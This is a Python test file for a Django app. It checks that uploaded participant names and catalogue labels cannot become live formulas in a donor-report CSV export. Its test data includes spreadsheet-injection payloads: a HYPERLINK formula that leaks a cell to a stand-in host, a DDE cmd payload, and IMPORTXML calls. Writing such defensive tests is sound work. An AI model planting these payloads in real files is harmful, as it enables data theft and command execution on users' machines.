"""Formula cells a spreadsheet would run: uploaded, typed into catalogues, and never
exported as formulas.

The one CSV the app exports is a donor report's tables (advocacy). Its categories
come from catalogues an administrator edits and from choice lists; names that a
trainer uploads in a participants' CSV never reach it. The story: hostile names
and formulas go in through the upload and the catalogue, a report is generated
by the same code the worker runs, and the downloaded CSV holds no cell a
spreadsheet would run.
"""

import csv
import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accompaniment.factories import PoliticalSubjectFactory, ProcessFactory
from accompaniment.models import AreaOfDefence
from advocacy.exports import FORMULA_STARTS, LEADING_SPACES, spreadsheet_safe
from advocacy.models import DonorReport
from advocacy.services import report_generate
from tests.fixtures.mfa import mark_recently_reauthenticated
from training.factories import CohortFactory
from training.models import Participant

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(1)",
]


def _csv_line(values) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(values)
    return buffer.getvalue()


def _runnable(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    return cell.lstrip(LEADING_SPACES).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_formula_start_is_written_as_text(formula):
    safe = spreadsheet_safe(formula)

    assert safe == f"'{formula}"
    assert not _runnable(safe)


@pytest.mark.parametrize("value", ["Defensa del territorio", "<5", 7, -3, "a=b", "Sí - no"])
def test_plain_cells_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_trainer_uploading_formulas_as_names_imports_them_as_plain_text(login, trainer):
    cohort = CohortFactory(facilitators=[trainer], capacity=30)
    names = ['=HYPERLINK("http://127.0.0.1:9/","x")', "+52 55 1234", "-Ana", "@Beto"]
    lines = ["name,organisation\r\n"] + [
        _csv_line([name, '=IMPORTXML("http://127.0.0.1:9/","//a")']) for name in names
    ]
    upload = SimpleUploadedFile("lista.csv", "".join(lines).encode(), content_type="text/csv")

    response = login(trainer).post(
        reverse("training:cohort-import", kwargs={"cohort_id": cohort.pk}), {"file": upload}
    )

    assert response.status_code == 302
    stored = sorted(Participant.objects.values_list("organisation", flat=True))
    assert stored == ['=IMPORTXML("http://127.0.0.1:9/","//a")'] * 4
    assert sorted(p.name for p in Participant.objects.all()) == sorted(names)


def test_advocate_downloads_a_donor_csv_where_no_cell_is_a_formula(login, advocate):
    # An administrator typed formulas as labels of areas of defence.
    areas = [
        AreaOfDefence.objects.create(
            code=f"hostil-{n}", label_es=formula, label_en=formula, position=900 + n
        )
        for n, formula in enumerate(FORMULAS)
    ]
    for area in areas:
        subject = PoliticalSubjectFactory()
        subject.areas.add(area)
        ProcessFactory(subject=subject, opened_on=dt.date(2026, 2, 1))
    report = report_generate(
        report_id=DonorReport.objects.create(
            title="Informe 2026",
            start=dt.date(2026, 1, 1),
            end=dt.date(2026, 12, 31),
            sections=["subjects", "processes", "training", "outputs"],
            created_by=advocate,
        ).pk
    )
    client = login(advocate)
    mark_recently_reauthenticated(client, advocate)

    response = client.get(reverse("advocacy:report-csv", kwargs={"report_id": report.pk}))

    assert response.status_code == 200
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if _runnable(cell)] == []
    area_cells = {cell for cell in cells if cell.lstrip("'") in FORMULAS}
    assert area_cells == {f"'{formula}" for formula in FORMULAS}
